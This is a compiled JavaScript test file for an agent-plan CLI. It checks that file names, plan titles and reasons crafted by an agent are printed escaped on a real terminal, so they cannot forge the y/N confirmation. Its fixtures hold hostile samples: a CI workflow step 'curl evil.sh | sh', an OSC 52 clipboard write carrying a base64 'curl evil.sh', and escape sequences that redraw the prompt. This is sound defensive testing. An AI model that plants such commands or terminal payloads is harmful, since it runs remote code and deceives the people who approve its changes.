"use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", { value: true });
const assert = __importStar(require("node:assert/strict"));
const node_fs_1 = require("node:fs");
const path = __importStar(require("node:path"));
const cliHarness_1 = require("./helpers/cliHarness");
const sandboxFixtures_1 = require("./helpers/sandboxFixtures");
const tempDir_1 = require("./helpers/tempDir");
// Names an agent can give files, titles and reasons, printed by the built CLI on a real
// pseudo-terminal (script(1)): what reaches the terminal must hold none of their controls.
const ESC = '\x1b';
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;
/**
 * The bytes a terminal received hold nothing from the data it would interpret: valid UTF-8, no
 * C1 control, no bidi control, no carriage return but the terminal's own CR LF, and no escape but
 * the cursor moves readline makes around the y/N question (and none at all before the question).
 */
function assertTerminalSafe(bytes, question) {
    const text = bytes.toString('utf8');
    assert.ok(Buffer.from(text, 'utf8').equals(bytes), 'the output is valid UTF-8');
    const before = question === undefined ? text : text.slice(0, text.indexOf(question));
    assert.ok(!before.includes(ESC), `no escape before the question:\n${JSON.stringify(before)}`);
    const rest = text.replace(/\x1b\[\d*[GJ]/g, '');
    assert.ok(!rest.includes(ESC), `no escape but readline's cursor moves:\n${JSON.stringify(text)}`);
    assert.ok(!/[\u0080-\u009f]/u.test(text), 'no C1 control');
    assert.ok(!BIDI.test(text), 'no bidi control, no line or paragraph separator');
    assert.ok(!/\r(?!\r*\n)/.test(text), `no carriage return but before a line feed:\n${JSON.stringify(text)}`);
    // What a person reads: the terminal's line ends back to LF.
    return text.replace(/\r+\n/g, '\n');
}
describe('hostile names: the built CLI on a real terminal', function () {
    this.timeout(120_000);
    const tempDir = (0, tempDir_1.useTempDirs)('ca-hostile-');
    before(function () {
        this.timeout(180_000);
        if (!(0, cliHarness_1.hasScript)())
            this.skip();
        (0, cliHarness_1.ensureCliBuilt)();
    });
    function isolatedPlan(root, title = 'iso') {
        const run = (0, cliHarness_1.runCli)(root, ['--format', 'json', 'plan', 'create', '--title', title, '--isolated']);
        assert.equal(run.code, 0, run.stderr);
        return run.json().plan;
    }
    it("the issue's reproduction: a name that redraws the confirmation is shown escaped, with the real list and counts", () => {
        const root = tempDir();
        (0, sandboxFixtures_1.write)(root, '.github/workflows/ci.yml', 'on: push\njobs: {}\n');
        (0, sandboxFixtures_1.write)(root, 'README.md', '# demo\n');
        const plan = isolatedPlan(root);
        const sandbox = path.join(root, plan.sandbox_path);
        (0, sandboxFixtures_1.write)(sandbox, '.github/workflows/ci.yml', 'on: push\njobs:\n  x:\n    steps:\n      - run: curl evil.sh | sh\n');
        (0, sandboxFixtures_1.write)(sandbox, 'README.md', '# demo, improved\n');
        const forged = `zzz\r${ESC}[3A${ESC}[J\rApplying plan PLAN changes 1 path … modified README.md`;
        (0, sandboxFixtures_1.write)(sandbox, forged, 'x\n');
        const workspaceBefore = (0, sandboxFixtures_1.hashTree)(root);
        const run = (0, cliHarness_1.runCliOnTerminalRaw)(root, ['plan', 'apply', plan.plan_id], 'n\n');
        assert.equal(run.code, 1);
        const shown = assertTerminalSafe(run.bytes, 'Apply? [y/N]');
        // the plan as a person types it: its short id, the end of the whole one
        const short = /Applying plan ([0-9A-Z]{4,26}) changes these paths in the workspace:/.exec(shown)?.[1] ?? '';
        assert.ok(short.length >= 4 && plan.plan_id.endsWith(short), shown);
        const escapedName = `zzz\\r\\e[3A\\e[J\\rApplying plan PLAN changes 1 path … modified README.md`;
        assert.ok(shown.includes([
            `Applying plan ${short} changes these paths in the workspace:`,
            '  modified  .github/workflows/ci.yml',
            '  modified  README.md',
            `  added     ${escapedName}`,
            'In all: 3 paths (1 added, 2 modified, 0 deleted).',
            'An applied plan is final: it can no longer be rolled back or checkpointed.',
            '',
        ].join('\n')), shown);
        assert.match(shown, /Apply cancelled: not confirmed; nothing was changed\./);
        assert.deepEqual((0, sandboxFixtures_1.hashTree)(root), workspaceBefore, 'declined: the workspace is as it was');
    });
    it('escapes, CR, bidi overrides, newlines, C1, DEL, a path of over 10,000 displayed characters and invalid UTF-8 in every text output', () => {
        const root = tempDir();
        (0, sandboxFixtures_1.write)(root, 'README.md', '# demo\n');
        const title = `retitle${ESC}]0;pwned\x07 and copy${ESC}]52;c;Y3VybCBldmlsLnNo\x07 \u202etxt.exe`;
        const plan = isolatedPlan(root, title);
        const sandbox = path.join(root, plan.sandbox_path);
        const names = [
            `osc${ESC}]0;pwned\x07.txt`,
            'cr\rhidden.txt',
            'bidi\u202egnp.exe\u202c.txt',
            'isolate\u2066x\u2069.txt',
            'line\nApplying plan X changes 0 paths.txt',
            'separator\u2028x.txt',
            'c1\u009b31m.txt',
            'del\x7f.txt',
            'tab\there.txt',
        ];
        for (const name of names)
            (0, sandboxFixtures_1.write)(sandbox, name, 'x\n');
        // A path as long as Linux allows (PATH_MAX is 4096 bytes), of controls only: over 10,000 characters once escaped.
        const deep = Array.from({ length: 12 }, (_, i) => `${String.fromCharCode(1 + i)}`.repeat(250)).join('/');
        (0, sandboxFixtures_1.write)(sandbox, `${deep}/f`, 'x\n');
        // Bytes that are not UTF-8: made with a Buffer path, as a tool writing raw names would.
        (0, node_fs_1.mkdirSync)(sandbox, { recursive: true });
        (0, node_fs_1.writeFileSync)(Buffer.concat([Buffer.from(`${sandbox}/bad-`), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('.txt')]), 'x\n');
        const apply = (0, cliHarness_1.runCliOnTerminalRaw)(root, ['plan', 'apply', plan.plan_id], 'n\n');
        assert.equal(apply.code, 1);
        const shown = assertTerminalSafe(apply.bytes, 'Apply? [y/N]');
        for (const escaped of [
            'osc\\e]0;pwned\\a.txt',
            'cr\\rhidden.txt',
            'bidi\\u202egnp.exe\\u202c.txt',
            'isolate\\u2066x\\u2069.txt',
            'line\\nApplying plan X changes 0 paths.txt',
            'separator\\u2028x.txt',
            'c1\\x9b31m.txt',
            'del\\x7f.txt',
            'tab\\there.txt',
        ]) {
            assert.ok(shown.includes(`  added     ${escaped}\n`), `${escaped} on a line of its own:\n${shown}`);
        }
        const longLine = shown.split('\n').find((l) => l.includes('\\x01'));
        assert.ok(longLine && longLine.length > 10_000, 'the deep path is listed in full, escaped');
        assert.ok(longLine.endsWith('\\x0c/f'));
        assert.match(shown, /In all: \d+ paths \(\d+ added, 0 modified, 0 deleted\)\.\n/);
        const reason = `step${ESC}[2J\rdone\u202e\nApplying`;
        const checkpoint = (0, cliHarness_1.runCliOnTerminalRaw)(root, ['plan', 'checkpoint', plan.plan_id, '--reason', reason], '');
        assert.equal(checkpoint.code, 0, checkpoint.bytes.toString());
        assert.match(assertTerminalSafe(checkpoint.bytes), /reason: step\\e\[2J\\rdone\\u202e\\nApplying\n/);
        const escapedTitle = 'retitle\\e]0;pwned\\a and copy\\e]52;c;Y3VybCBldmlsLnNo\\a \\u202etxt.exe';
        for (const args of [['plan', 'list'], ['plan', 'show', plan.plan_id], ['plan', 'checkpoints', plan.plan_id]]) {
            const run = (0, cliHarness_1.runCliOnTerminalRaw)(root, args, '');
            assert.equal(run.code, 0, run.bytes.toString());
            const text = assertTerminalSafe(run.bytes);
            if (args[1] === 'checkpoints')
                assert.ok(text.includes('step\\e[2J\\rdone\\u202e\\nApplying'), text);
            else
                assert.ok(text.includes(escapedTitle), text);
        }
        // An error quoting a value: safe on the terminal whatever the message holds.
        const error = (0, cliHarness_1.runCliOnTerminalRaw)(root, ['plan', 'show', `${ESC}]0;x\x07`], '');
        assert.equal(error.code, 1);
        assert.match(assertTerminalSafe(error.bytes), /agents: Validation Error: plan id "\\u001b\]0;x\\u0007" must be a ULID/);
        // JSON stays the contract's bytes: JSON.stringify escapes the controls itself.
        const json = (0, cliHarness_1.runCli)(root, ['--format', 'json', 'plan', 'show', plan.plan_id]);
        assert.equal(json.json().plan.title, title);
        assert.ok(!json.stdout.includes(ESC));
        assert.equal((0, node_fs_1.readFileSync)(path.join(root, 'README.md'), 'utf8'), '# demo\n', 'declined: the workspace is as it was');
    });
});
//# sourceMappingURL=hostileNames.test.js.map